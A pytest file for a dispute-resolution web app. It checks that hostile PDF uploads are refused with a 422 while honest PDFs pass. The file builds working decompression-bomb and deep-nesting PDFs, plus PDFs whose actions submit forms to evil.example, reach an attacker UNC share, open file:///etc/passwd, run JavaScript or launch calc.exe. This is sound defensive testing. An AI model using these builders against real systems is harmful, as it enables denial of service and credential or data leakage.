"""ASVS V5.2 (files) and V12: hostile PDFs, uploaded over HTTP as evidence and as a partner
agency's outcome document, are refused with a 422 naming the field, in under 5 s, without the
serving process growing by 100 MB; honest PDFs still pass (issue 13, items 1 and 10).

Every file is built here. The bombs come first, so that the server's memory is measured before
anything else has grown it (the high-water mark only rises).
"""

from __future__ import annotations

import base64
import io
import time
import zlib

import pytest
from pypdf import PdfWriter
from pypdf.annotations import Link
from weasyprint import HTML

from odr.accounts.services import find_user_by_email, hash_password
from odr.evidence import pdf_inspection
from odr.extensions import db
from odr.referrals.directory import add_partner
from tests.conftest import wipe
from tests.factories import PASSWORD, lodging_body, make_user, token_for

MB = 1024 * 1024
# The inspection's own bound, and two seconds for the upload and the answer around it (a costly
# file runs up to the bound; on a loaded two-core machine the rest has taken over one second).
SECONDS = pdf_inspection.SECONDS + 2
GROWTH_MB = 100
GERMAN_LAW = {"consumer_chose_merchant_law": True}


# ---- building PDFs -------------------------------------------------------------------------------


def assemble(objects: dict[int, bytes], *, trailer: bytes = b"", version: bytes = b"1.7") -> bytes:
    """A PDF of `objects` (number: body, stream data included; 1 is the catalog) with a
    cross-reference table that lists each where it is."""
    out = bytearray(b"%PDF-" + version + b"\n%\xe2\xe3\xcf\xd3\n")
    offsets = {}
    for number, body in sorted(objects.items()):
        offsets[number] = len(out)
        out += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    size = max(objects) + 1
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % size
    for number in range(1, size):
        out += b"%010d 00000 n \n" % offsets[number] if number in offsets else bytes(20)
    out += b"trailer\n<< /Size %d /Root 1 0 R %s>>\n" % (size, trailer)
    out += b"startxref\n%d\n%%%%EOF\n" % xref
    return bytes(out)


def one_page(
    catalog: bytes = b"", page: bytes = b"", more: dict[int, bytes] | None = None
) -> bytes:
    """A one-page PDF; `catalog` and `page` are added to those dictionaries."""
    return assemble(
        {
            1: b"<< /Type /Catalog /Pages 2 0 R " + catalog + b">>",
            2: b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
            3: b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] " + page + b">>",
            **(more or {}),
        }
    )


def link(action: bytes) -> bytes:
    """A page with one link annotation whose action is `action`."""
    return b"/Annots [<< /Type /Annot /Subtype /Link /Rect [10 10 90 30] /A " + action + b" >>]"


def object_stream_bomb(streams: int = 10, inflate_to: int = 60 * MB) -> bytes:
    """Object streams of a few kilobytes that each inflate to 60 MB of spaces, their dictionary
    holding `/Note (obj)` after `/Type /ObjStm`, behind a cross-reference stream that places an
    object in each (so that a reader resolving every object inflates every stream)."""
    member = b"100 0 "
    packed = zlib.compress(member + b"null" + b" " * (inflate_to - len(member) - 4), 9)
    out = bytearray(b"%PDF-1.5\n%\xe2\xe3\xcf\xd3\n")
    offsets = {}

    def add(number: int, body: bytes) -> None:
        offsets[number] = len(out)
        out.extend(b"%d 0 obj\n%s\nendobj\n" % (number, body))

    add(1, b"<< /Type /Catalog /Pages 2 0 R >>")
    add(2, b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>")
    add(3, b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] >>")
    for n in range(streams):
        add(
            4 + n,
            b"<< /Type /ObjStm /N 1 /First %d /Filter /FlateDecode /Length %d /Note (obj) >>\n"
            b"stream\n%s\nendstream" % (len(member), len(packed), packed),
        )
    xref = 4 + streams
    rows = [b"\x00" + bytes(4) + b"\xff\xff"]
    rows += [b"\x01" + offsets[n].to_bytes(4, "big") + bytes(2) for n in range(1, xref)]
    rows.append(b"\x01" + len(out).to_bytes(4, "big") + bytes(2))
    rows += [b"\x02" + (4 + n).to_bytes(4, "big") + bytes(2) for n in range(streams)]
    table = b"".join(rows)
    at = len(out)
    add(
        xref,
        b"<< /Type /XRef /Size %d /Index [0 %d 100 %d] /W [1 4 2] /Root 1 0 R /Length %d >>\n"
        b"stream\n%s\nendstream" % (100 + streams, xref + 1, streams, len(table), table),
    )
    out.extend(b"startxref\n%d\n%%%%EOF\n" % at)
    return bytes(out)


def xref_stream_bomb(entries: int = 8_000_000) -> bytes:
    """A cross-reference stream of 50 KB that inflates to 56 MB: eight million entries."""
    head = one_page()
    rows = zlib.compress(b"\x01" + bytes(6) + bytes(7) * (entries - 1), 9)
    xref = len(head)
    body = b"<< /Type /XRef /Size %d /W [1 4 2] /Root 1 0 R /Filter /FlateDecode /Length %d >>" % (
        entries,
        len(rows),
    )
    tail = b"9 0 obj\n%s\nstream\n%s\nendstream\nendobj\nstartxref\n%d\n%%%%EOF\n"
    return head + tail % (body, rows, xref)


def many_objects(count: int = 250_000) -> bytes:
    """250,000 small objects in 9 MB, and no cross-reference table: a reader rebuilds one."""
    objects = b"".join(b"%d 0 obj <</A %d>> endobj\n" % (n, n) for n in range(4, count + 4))
    return one_page()[: one_page().rindex(b"xref")] + objects + b"trailer << /Root 1 0 R >>\n"


def deep_nesting(depth: int = 2_000_000) -> bytes:
    """Arrays nested two million deep in the catalog."""
    return one_page(catalog=b"/Deep " + b"[" * depth + b"]" * depth)


def in_object_stream(catalog: bytes, hidden: bytes) -> bytes:
    """The catalog refers to object 5, which lives, Flate-compressed, in object stream 4."""
    objects = {
        1: b"<< /Type /Catalog /Pages 2 0 R " + catalog + b">>",
        2: b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        3: b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] >>",
    }
    out = bytearray(b"%PDF-1.5\n")
    offsets = {}
    for number, body in objects.items():
        offsets[number] = len(out)
        out += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    packed = zlib.compress(b"5 0 " + hidden)
    offsets[4] = len(out)
    out += b"4 0 obj\n<< /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode /Length %d >>\n" % len(
        packed
    )
    out += b"stream\n" + packed + b"\nendstream\nendobj\n"
    rows = [b"\x00" + bytes(4) + b"\xff\xff"]
    rows += [b"\x01" + offsets[n].to_bytes(4, "big") + bytes(2) for n in (1, 2, 3, 4)]
    rows.append(b"\x02" + (4).to_bytes(4, "big") + bytes(2))
    xref = len(out)
    rows.append(b"\x01" + xref.to_bytes(4, "big") + bytes(2))
    table = b"".join(rows)
    out += b"6 0 obj\n<< /Type /XRef /Size 7 /W [1 4 2] /Root 1 0 R /Length %d >>\n" % len(table)
    out += b"stream\n" + table + b"\nendstream\nendobj\nstartxref\n%d\n%%%%EOF\n" % xref
    return bytes(out)


def pypdf_file(url: str | None = None, password: str | None = None) -> bytes:
    """Two pages made by pypdf, with a link to `url`; encrypted with an owner password only."""
    writer = PdfWriter()
    writer.add_blank_page(595, 842)
    writer.add_blank_page(595, 842)
    if url:
        writer.add_annotation(0, Link(rect=(50, 50, 300, 80), url=url))
        writer.add_annotation(0, Link(rect=(50, 100, 300, 130), target_page_index=1))
    if password is not None:
        writer.encrypt(user_password="", owner_password=password, algorithm="AES-128")
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def weasyprint_invoice() -> bytes:
    html = (
        "<h1>Invoice SW-1042</h1><p>Headphones, EUR 129.90. Order at "
        "<a href='https://shop.example/orders/SW-1042'>shop.example</a>; questions to "
        "<a href='mailto:help@shop.example'>help@shop.example</a>; "
        "<a href='#terms'>terms</a>.</p><h2 id='terms' style='break-before: page'>Terms</h2>"
    )
    return HTML(string=html).write_pdf()


SUBMIT = b"<< /S /SubmitForm /F << /FS /URL /F (https://evil.example/collect) >> >>"
UNC = rb"(\\\\attacker\\share\\x.pdf)"

ACTIVE = {
    "open-action-uri": one_page(b"/OpenAction << /S /URI /URI (https://tracker.example/o) >>"),
    "page-aa-submit-form": one_page(page=b"/AA << /O " + SUBMIT + b" >>"),
    "open-action-gotor-unc": one_page(b"/OpenAction << /S /GoToR /F " + UNC + b" /D [0 /Fit] >>"),
    "link-gotor-unc": one_page(page=link(b"<< /S /GoToR /F " + UNC + b" /D [0 /Fit] >>")),
    "link-uri-unc": one_page(page=link(b"<< /S /URI /URI " + UNC + b" >>")),
    "link-uri-file": one_page(page=link(b"<< /S /URI /URI (file:///etc/passwd) >>")),
    "link-uri-javascript": one_page(page=link(b"<< /S /URI /URI (javascript:alert(1)) >>")),
    "link-launch": one_page(page=link(b"<< /S /Launch /F (calc.exe) >>")),
    "open-action-javascript": one_page(b"/OpenAction << /S /JavaScript /JS (app.alert(1)) >>"),
    "import-data": one_page(b"/OpenAction << /S /ImportData /F (data.fdf) >>"),
    "rendition": one_page(page=b"/AA << /O << /S /Rendition /OP 0 >> >>"),
    "hide": one_page(page=link(b"<< /S /Hide /T (field) >>")),
    "reset-form": one_page(page=link(b"<< /S /ResetForm >>")),
    "named-print": one_page(page=link(b"<< /S /Named /N /Print >>")),
    "unknown-action": one_page(b"/OpenAction << /S /Whatever /X (y) >>"),
    "catalog-aa": one_page(b"/AA << /WC << /S /URI /URI (https://tracker.example/c) >> >>"),
    "field-aa": one_page(
        b"/AcroForm << /Fields [4 0 R] >>",
        more={4: b"<< /FT /Tx /T (name) /AA << /K << /S /ResetForm >> >> >>"},
    ),
    "by-reference": one_page(
        b"/OpenAction 4 0 R", more={4: b"<< /S /URI /URI (https://tracker.example/r) >>"}
    ),
    "aa-by-reference": one_page(page=b"/AA 4 0 R", more={4: b"<< /O 5 0 R >>", 5: SUBMIT}),
    "next-in-a-chain": one_page(b"/OpenAction << /S /GoTo /D [3 0 R /Fit] /Next " + SUBMIT + b">>"),
    "in-an-object-stream": in_object_stream(
        b"/OpenAction 5 0 R", b"<< /S /URI /URI (https://tracker.example/s) >>"
    ),
}

TOO_COSTLY = {
    "object-stream-bomb": object_stream_bomb,
    "xref-stream-bomb": xref_stream_bomb,
    "many-objects": many_objects,
    "deep-nesting": deep_nesting,
}


# ---- the parties ---------------------------------------------------------------------------------


def claimant_with_dispute(server) -> tuple[str, str]:
    """A consumer's token and a dispute they lodged, over HTTP."""
    consumer = make_user(server.app, "consumer")
    make_user(server.app, "merchant", email="shop@merchant.example")
    token = token_for(server.app, consumer)
    lodged = server.visitor().api("POST", "/api/v1/disputes", token, json=lodging_body())
    assert lodged.status_code == 201, lodged.text
    return token, lodged.json()["id"]


def upload_evidence(server, data: bytes) -> tuple[float, object]:
    token, dispute = claimant_with_dispute(server)
    visitor = server.visitor()
    started = time.monotonic()
    answer = visitor.api(
        "POST",
        f"/api/v1/disputes/{dispute}/evidence",
        token,
        files={"file": ("statement.pdf", data, "application/pdf")},
    )
    return time.monotonic() - started, answer


def agency_with_referral(server) -> tuple[str, str]:
    """A partner agency's token and a referral it accepted (a dispute under German law)."""
    with server.app.app_context():
        _partner, _user, agency, _secret = add_partner(
            name="Schlichtung Online",
            countries=["DE"],
            languages=["de", "en"],
            webhook_url="https://schlichtung-online.example/hooks",
            legal_basis="GDPR art. 49(1)(a)",
            user_email="desk@schlichtung-online.example",
        )
    consumer = make_user(server.app, "consumer")
    make_user(server.app, "merchant", email="shop@merchant.example")
    visitor = server.visitor()
    body = lodging_body(law=GERMAN_LAW, transfer_consent=True)
    lodged = visitor.api("POST", "/api/v1/disputes", token_for(server.app, consumer), json=body)
    assert lodged.json()["state"] == "referred", lodged.text
    [referral] = visitor.api("GET", "/api/v1/referrals", agency).json()["items"]
    accepted = visitor.api(
        "POST",
        f"/api/v1/referrals/{referral['id']}/accept",
        agency,
        json={"partner_reference": "S"},
    )
    assert accepted.status_code == 200, accepted.text
    return agency, referral["id"]


def report_outcome(server, data: bytes) -> tuple[float, object]:
    agency, referral = agency_with_referral(server)
    document = {"filename": "decision.pdf", "content_base64": base64.b64encode(data).decode()}
    body = {"outcome": "settled", "summary": "Settled at our hearing.", "document": document}
    visitor = server.visitor()
    started = time.monotonic()
    answer = visitor.api("POST", f"/api/v1/referrals/{referral}/outcome", agency, json=body)
    return time.monotonic() - started, answer


def report_outcome_from_the_portal(server, data: bytes) -> tuple[float, object]:
    _agency, referral = agency_with_referral(server)
    email = "desk@schlichtung-online.example"
    with server.app.app_context():
        find_user_by_email(email).password_hash = hash_password(PASSWORD)
        db.session.commit()
    desk = server.visitor()
    desk.login(email, PASSWORD)
    desk.get(f"/partner/referrals/{referral}")
    started = time.monotonic()
    answer = desk.post(
        f"/partner/referrals/{referral}/outcome",
        {"outcome": "settled", "summary": "Settled at our hearing."},
        files={"document": ("decision.pdf", data, "application/pdf")},
    )
    return time.monotonic() - started, answer


UPLOADS = {
    "evidence": (upload_evidence, "file"),
    "outcome": (report_outcome, "document.content_base64"),
}


def refused(answer, field: str) -> str:
    assert answer.status_code == 422, (answer.status_code, answer.text[:300])
    return answer.json()["errors"][field]


@pytest.fixture(scope="module", autouse=True)
def _inspections_running(server) -> None:
    """One honest upload first: the server's first inspection also starts the process that the
    inspections are forked from (about 1 s, once), which the bounds below do not measure."""
    _elapsed, answer = upload_evidence(server, pypdf_file())
    assert answer.status_code == 201, answer.text[:300]
    wipe(server.app)


# ---- the bombs: quickly refused, and the server does not grow ------------------------------------


@pytest.mark.parametrize("upload", UPLOADS)
@pytest.mark.parametrize("bomb", TOO_COSTLY)
def test_a_pdf_that_costs_too_much_to_read_is_refused_quickly_without_growing_the_server(
    server, bomb, upload
):
    data = TOO_COSTLY[bomb]()
    assert len(data) < 10 * MB
    send, field = UPLOADS[upload]
    before = server.peak_mb()
    elapsed, answer = send(server, data)
    grown = server.peak_mb() - before
    cost = f"{elapsed:.1f} s, the server grew by {grown:.0f} MB, answered {answer.status_code}"
    assert elapsed < SECONDS and grown < GROWTH_MB, cost
    assert "Print it to a new PDF" in refused(answer, field)


def test_a_bomb_from_the_agency_portal_is_refused_naming_the_document(server):
    before = server.peak_mb()
    elapsed, answer = report_outcome_from_the_portal(server, object_stream_bomb())
    grown = server.peak_mb() - before
    cost = f"{elapsed:.1f} s, the server grew by {grown:.0f} MB, answered {answer.status_code}"
    assert elapsed < SECONDS and grown < GROWTH_MB, cost
    assert answer.status_code == 422 and 'id="document-error"' in answer.text


# ---- active content: refused by allow-list -------------------------------------------------------


@pytest.mark.parametrize("upload", UPLOADS)
@pytest.mark.parametrize("sample", ACTIVE)
def test_a_pdf_that_acts_by_itself_is_refused(server, sample, upload):
    send, field = UPLOADS[upload]
    elapsed, answer = send(server, ACTIVE[sample])
    assert "Print it to a new PDF" in refused(answer, field)
    assert elapsed < SECONDS


def test_a_pdf_that_needs_a_password_is_refused(server):
    writer = PdfWriter()
    writer.add_blank_page(200, 200)
    writer.encrypt(user_password="secret", algorithm="AES-128")
    out = io.BytesIO()
    writer.write(out)
    _elapsed, answer = upload_evidence(server, out.getvalue())
    assert "could not be read" in refused(answer, "file")


# ---- honest files pass ---------------------------------------------------------------------------

HONEST = {
    "weasyprint-with-links": weasyprint_invoice,
    "pypdf-with-links": lambda: pypdf_file("https://shop.example/orders/1"),
    "owner-password-only": lambda: pypdf_file("https://shop.example/orders/2", password="owner"),
    "opens-at-its-first-page": lambda: one_page(b"/OpenAction [3 0 R /Fit]"),
    "opens-with-a-goto": lambda: one_page(b"/OpenAction << /S /GoTo /D [3 0 R /FitH 800] >>"),
}


@pytest.mark.parametrize("upload", UPLOADS)
@pytest.mark.parametrize("sample", HONEST)
def test_an_honest_pdf_is_accepted(server, sample, upload):
    send, _field = UPLOADS[upload]
    elapsed, answer = send(server, HONEST[sample]())
    assert answer.status_code in (200, 201), answer.text[:300]
    assert elapsed < SECONDS
